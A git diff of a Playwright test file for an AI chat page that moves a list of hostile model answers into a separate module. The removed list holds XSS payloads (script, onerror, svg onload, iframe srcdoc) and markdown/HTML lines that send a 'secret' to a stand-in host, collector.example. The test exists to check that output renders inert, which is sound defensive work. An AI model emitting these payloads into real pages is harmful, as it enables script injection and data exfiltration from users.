@@ -4,6 +4,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import type { Page } from '@playwright/test';
 import { drawnPicture } from './assistant.ts';
+import { HOSTILE } from './hostile-answers.ts';
 import { LIBRARY, serveFolder, type Site } from './package.ts';
 import { expect, test } from './test.ts';
 
@@ -132,24 +133,6 @@ test('Stop ends an answer that has begun; ask() and attach() do what the buttons
     (await notes(page)).filter(({ type }) => type === 'answer').map(({ detail }) => detail['finish_reason']),
   ).toEqual(['cancelled', 'stop']);
 });
-
-const HOSTILE = [
-  '<script>globalThis.pwned = 1</script>',
-  '<img src=x onerror="globalThis.pwned = 1">',
-  '<svg/onload=globalThis.pwned=1>',
-  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>',
-  '[click](javascript:globalThis.pwned=1)',
-  '![](https://collector.example/?q=secret)',
-  '![a][b]\n\n[b]: https://collector.example/pixel.png',
-  '<meta http-equiv="refresh" content="0;url=https://collector.example/">',
-  '<link rel=preload as=image href=https://collector.example/x.png>',
-  '<style>@import url(https://collector.example/x.css)</style>',
-  '"><img src=https://collector.example/x.png>',
-  '&#x3C;script&#x3E;pwned=1&#x3C;/script&#x3E;',
-  '\u202e<a href="https://collector.example">x</a>\u0000',
-  `${'['.repeat(20_000)}${'>'.repeat(2000)}`,
-];
 
 test('whatever a model writes is shown as it is: no element, no script, no request', async ({ page }) => {
   await page.goto(site.url);
